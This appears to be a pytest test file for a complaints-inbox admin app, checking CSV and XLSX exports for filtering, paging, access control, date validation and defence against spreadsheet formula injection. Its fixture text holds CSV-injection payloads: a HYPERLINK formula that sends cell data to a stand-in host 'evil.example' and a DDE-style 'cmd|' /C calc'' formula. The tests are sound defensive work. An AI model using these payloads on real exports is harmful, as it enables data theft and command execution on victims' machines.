"""Exports of the filtered inbox: CSV streamed, XLSX in the background, never the reporter."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
from bs4 import BeautifulSoup
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from lapor.store import schema as t
from tests.conftest import AppHarness, MakeHarness
from tests.html import attr, one, tag


def soup(response: httpx.Response) -> BeautifulSoup:
    return BeautifulSoup(response.text, "html.parser")


# What a spreadsheet runs as a formula when a cell starts with it (OWASP's CSV injection list).
LEADS = ["=", "+", "-", "@", "\t", "\r"]
ATTACK = '=HYPERLINK("http://evil.example/?d="&J3&K3,"Lihat bukti foto")'
TEXTS = {
    "=": ATTACK,
    "+": "+62 812 3456 7890 tolong telepon saya kembali",
    "-": "-1+1 antrean mundur terus tanpa kejelasan",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0 loket tutup",
}


async def formula_world(harness: AppHarness) -> dict[str, str]:
    """A unit under the province per leading character, named with it as an admin might type
    it, and a report there whose text starts with it where a citizen can write it (the form
    trims a text's leading tab and carriage return). The report's text by unit name."""
    made: dict[str, str] = {}
    for i, lead in enumerate(LEADS):
        name = f"{lead}SUM(1+1) Unit {i}"
        await harness.world.unit(f"f{i}", "prov", name)
        await harness.world.poster(f"f{i}", f"f{i}")
        text = TEXTS.get(lead, f"Laporan biasa nomor {i} dari unit yang namanya aneh.")
        assert (await harness.submit(f"f{i}", text=text)).status_code == 303
        made[name] = text
    return made


async def test_csv_follows_the_filters_pages_through_and_hides_the_reporter(
    harness: AppHarness, monkeypatch: Any
) -> None:
    from lapor.jobs import exports

    monkeypatch.setattr(exports, "PAGE", 2)  # several pages, as with a million rows
    for i in range(5):
        await harness.submit(
            identity="named",
            name="Siti Rahmawati",
            phone="081234567890",
            text=f"Lampu jalan nomor {i} mati sejak minggu lalu.",
        )
    await harness.submit(text="Sesuatu yang lain sama sekali dari laporan lampu.")
    await harness.login("koor@prov.go.id")
    page = soup(await harness.client.get("/admin", params={"q": "nomor"}))
    link = tag(page.find("a", href=lambda h: bool(h) and h.startswith("/admin/export.csv")))
    response = await harness.client.get(attr(link, "href"))
    assert response.status_code == 200 and "attachment" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert rows[0][0] == "Kode lacak" and len(rows) == 6
    assert len({r[0] for r in rows[1:]}) == 5
    assert "Siti" not in response.text and "0812" not in response.text
    # "Received": ISO 8601 to the second in the office's zone, not "2026-12-02 10:03:38.377858".
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+08:00", r[1]) for r in rows[1:])


async def test_xlsx_export_runs_in_the_background_for_its_owner_only(harness: AppHarness) -> None:
    for _ in range(3):
        await harness.submit()
    await harness.login("koor@prov.go.id")
    csrf = await harness.csrf()
    started = await harness.client.post("/admin/exports", data={"csrf": csrf, "query": ""})
    assert started.status_code == 303
    status_url = started.headers["location"]
    waiting = soup(await harness.client.get(status_url))
    assert "Menunggu giliran" in waiting.get_text()
    assert waiting.find("meta", attrs={"http-equiv": "refresh"}) is not None
    assert await harness.app.state.exports.run_one()  # what the server's runner does
    done = await harness.client.get(status_url, headers={"HX-Request": "true"})
    assert "<html" not in done.text and "3 laporan" in done.text
    download = await harness.client.get(f"{status_url}/file")
    assert download.status_code == 200
    sheet = load_workbook(io.BytesIO(download.content), read_only=True).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "Kode lacak" and len(values) == 4
    # Another member of staff cannot watch or fetch it.
    await harness.client.post("/admin/logout", data={"csrf": csrf})
    await harness.login("insp@prov.go.id")
    assert (await harness.client.get(status_url)).status_code == 404
    assert (await harness.client.get(f"{status_url}/file")).status_code == 404


async def test_a_job_left_running_by_a_killed_server_starts_again(harness: AppHarness) -> None:
    await harness.submit()
    await harness.login("koor@prov.go.id")
    csrf = await harness.csrf()
    started = await harness.client.post("/admin/exports", data={"csrf": csrf, "query": ""})
    store = harness.app.state.services.store
    assert await store.claim_export() is not None  # claimed, then the server "dies"
    assert await store.claim_export() is None  # while its claim lasts, nobody else takes it
    # Its claim ran out unrenewed: the next runner takes the job over and writes it.
    await store.db.write(
        lambda conn: conn.execute(
            update(t.export_jobs).values(claimed_until=datetime.now(UTC) - timedelta(seconds=1))
        )
    )
    assert await harness.app.state.exports.run_one()
    page = soup(await harness.client.get(started.headers["location"]))
    assert page.find("a", href=lambda h: bool(h) and h.endswith("/file")) is not None


async def test_bad_export_filters_change_nothing(harness: AppHarness) -> None:
    await harness.login("koor@prov.go.id")
    csrf = await harness.csrf()
    response = await harness.client.post(
        "/admin/exports", data={"csrf": csrf, "query": "kind=nope"}
    )
    assert response.status_code == 400
    assert await harness.app.state.services.store.claim_export() is None
    refused = await harness.client.get("/admin/export.csv?within=0")
    assert refused.status_code == 400
    assert "Jumlah hari kerja harus antara 1 dan 60" in refused.text


async def test_csv_of_a_search_goes_through_every_stretch_of_reports(
    harness: AppHarness, monkeypatch: Any
) -> None:
    from lapor.jobs import exports
    from lapor.store import inbox

    # A common word at a million reports is searched a stretch of ids per request; an export
    # must still carry every match, not stop at the first stretch without one.
    monkeypatch.setattr(inbox, "RARE_MATCHES", 0)
    monkeypatch.setattr(inbox, "SEARCH_WINDOW", 2)
    monkeypatch.setattr(exports, "PAGE", 2)
    for i in range(3):
        await harness.submit(text=f"Lampu jalan nomor {i} mati sejak minggu lalu.")
    for _ in range(4):
        await harness.submit(text="Sesuatu yang lain sama sekali dari laporan tadi.")
    await harness.submit(text="Lampu taman juga mati.")
    await harness.login("koor@prov.go.id")
    response = await harness.client.get("/admin/export.csv", params={"q": "lampu"})
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert len(rows) == 5 and len({r[0] for r in rows[1:]}) == 4


async def test_csv_carries_category_and_tags_and_follows_those_filters(harness: AppHarness) -> None:
    from tests.admin.test_workflow import reported

    road, _ = await reported(harness, text="Jalan berlubang di depan pasar sudah sebulan.")
    await reported(harness, text="Laporan lain yang belum diverifikasi koordinator.")
    assert (
        await harness.act(
            "koor@prov.go.id",
            road,
            "forward",
            title="Jalan berlubang",
            category="infrastruktur",
            tags="jalan rusak, aspal",
            unit=str(harness.world.units["dinas"].id),
        )
    ).status_code == 303
    response = await harness.client.get("/admin/export.csv", params={"category": "infrastruktur"})
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert len(rows) == 2
    header, row = rows
    assert row[header.index("Kategori")] == "Jalan dan infrastruktur"
    assert row[header.index("Tag")] == "jalan rusak, aspal"
    inbox = soup(await harness.client.get("/admin", params={"tag": "aspal"}))
    assert len(inbox.select("table.inbox a.code")) == 1
    assert one(inbox, "input[name=tag]")["value"] == "aspal"


async def test_csv_neutralises_text_a_spreadsheet_would_run(harness: AppHarness) -> None:
    made = await formula_world(harness)
    ordinary = "Antrean sangat panjang dan loket tutup sebelum jam pelayanan."
    await harness.submit(text=ordinary)
    await harness.login("koor@prov.go.id")
    response = await harness.client.get("/admin/export.csv")
    header, *rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    unit, text = header.index("Unit"), header.index("Laporan")
    received = header.index("Diterima")
    by_unit = {row[unit]: row for row in rows}
    assert len(by_unit) == len(made) + 1
    for name, written in made.items():
        row = by_unit["'" + name]  # a quote first: shown as text, never run
        assert row[text] == ("'" + written if written[0] in LEADS else written)
    plain = by_unit["Dinas Kependudukan"]  # what nobody made dangerous reads as before
    assert plain[text] == ordinary and plain[0][0].isalnum() and plain[received][:2] == "20"


async def test_xlsx_holds_what_people_wrote_as_text_never_a_formula(harness: AppHarness) -> None:
    made = await formula_world(harness)
    await harness.login("koor@prov.go.id")
    csrf = await harness.csrf()
    started = await harness.client.post("/admin/exports", data={"csrf": csrf, "query": ""})
    assert await harness.app.state.exports.run_one()
    download = await harness.client.get(f"{started.headers['location']}/file")
    xml = zipfile.ZipFile(io.BytesIO(download.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml
    header, *rows = load_workbook(io.BytesIO(download.content)).active.iter_rows(values_only=True)
    unit, text = header.index("Unit"), header.index("Laporan")
    # Exactly as written, no quote added; XML itself reads a lone carriage return as a newline.
    written = {row[unit]: row[text] for row in rows}
    assert written == {name.replace("\r", "\n"): text for name, text in made.items()}


async def test_exports_refuse_dates_outside_the_range_before_a_byte_is_sent(
    harness: AppHarness,
) -> None:
    await harness.submit()
    await harness.login("koor@prov.go.id")
    csrf = await harness.csrf()
    store = harness.app.state.services.store
    for query in ("from=0001-01-01", "to=9999-12-31", "from=2000-01-01&to=2101-01-01"):
        refused = await harness.client.get(f"/admin/export.csv?{query}")
        assert refused.status_code == 400, query
        assert "attachment" not in refused.headers.get("content-disposition", "")
        assert "Tanggal harus di antara tahun 2000 dan 2100." in refused.text
        started = await harness.client.post("/admin/exports", data={"csrf": csrf, "query": query})
        assert started.status_code == 400, query
        assert await store.claim_export() is None
    edges = await harness.client.get("/admin/export.csv?from=2000-01-01&to=2100-12-31")
    assert edges.status_code == 200
    assert len(list(csv.reader(io.StringIO(edges.text.lstrip("\ufeff"))))) == 2


async def test_a_job_asked_with_an_unreadable_query_fails_instead_of_exporting_more(
    harness: AppHarness,
) -> None:
    # A job queued before its query was checked (or written by hand): the runner must not drop
    # the filter it cannot read and export the whole list, nor crash on the date.
    await harness.submit()
    await harness.login("koor@prov.go.id")
    store = harness.app.state.services.store
    user = harness.world.users["koor@prov.go.id"]
    token = await store.create_export(user.id, "to=9999-12-31&lang=id", None)
    assert await harness.app.state.exports.run_one()
    job = await store.export_job(token, user.id)
    assert job is not None and job.status == "failed" and job.rows_done == 0
    assert job.error == "unreadable filters: dates"


async def started_and_written(harness: AppHarness) -> str:
    """An XLSX export of three reports asked for and written; its file's address."""
    for _ in range(3):
        await harness.submit()
    await harness.login("koor@prov.go.id")
    csrf = await harness.csrf()
    started = await harness.client.post("/admin/exports", data={"csrf": csrf, "query": ""})
    assert await harness.app.state.exports.run_one()
    return f"{started.headers['location']}/file"


def downloaded(response: httpx.Response) -> None:
    assert response.status_code == 200
    assert response.headers["content-type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert re.fullmatch(
        r'attachment; filename="laporan-\d{8}-\d{4}\.xlsx"',
        response.headers["content-disposition"],
    )
    assert response.headers["cache-control"] == "no-store"
    assert int(response.headers["content-length"]) == len(response.content)
    assert response.headers["etag"] and response.headers["last-modified"]
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert len(rows) == 4


async def pieces_kept(harness: AppHarness) -> int:
    return int(
        await harness.app.state.services.store.db.read(
            lambda conn: conn.execute(select(func.count()).select_from(t.export_pieces)).scalar()
        )
    )


async def test_on_sqlite_the_file_is_the_data_directorys_named_by_its_claim(
    harness: AppHarness,
) -> None:
    url = await started_and_written(harness)
    response = await harness.client.get(url)
    downloaded(response)
    token = url.split("/")[-2]
    job = await harness.app.state.services.store.export_job(
        token, harness.world.users["koor@prov.go.id"].id
    )
    assert job is not None and job.file_token is not None
    path = harness.settings.data_dir / "exports" / f"{token}.{job.file_token}.xlsx"
    assert path.read_bytes() == response.content
    assert await pieces_kept(harness) == 0


async def test_kept_in_the_database_the_file_is_streamed_with_the_same_headers(
    make_harness: MakeHarness,
) -> None:
    async with make_harness(photo_storage="database") as harness:
        url = await started_and_written(harness)
        downloaded(await harness.client.get(url))
        assert await pieces_kept(harness) == 1
        assert not list((harness.settings.data_dir / "exports").iterdir())
